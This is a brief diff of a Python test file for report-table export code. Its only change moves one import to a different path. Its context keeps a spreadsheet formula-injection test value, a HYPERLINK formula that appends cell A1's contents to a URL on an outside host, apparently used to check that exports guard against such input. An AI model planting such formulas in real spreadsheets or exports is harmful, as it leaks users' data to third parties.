@@ -6,12 +6,12 @@ from dataclasses import replace
 
 import numpy as np
 import pytest
-from run_folders import write_run
 
 from rlrat.reports.cells import guarded, unguarded
 from rlrat.reports.importing import import_runs, write_table
 from rlrat.reports.read import read_runs
 from rlrat.reports.tables import Cell, Table
+from tests.reports.run_folders import write_run
 
 FORMULA = '=HYPERLINK("http://a.org?"&A1)'
 
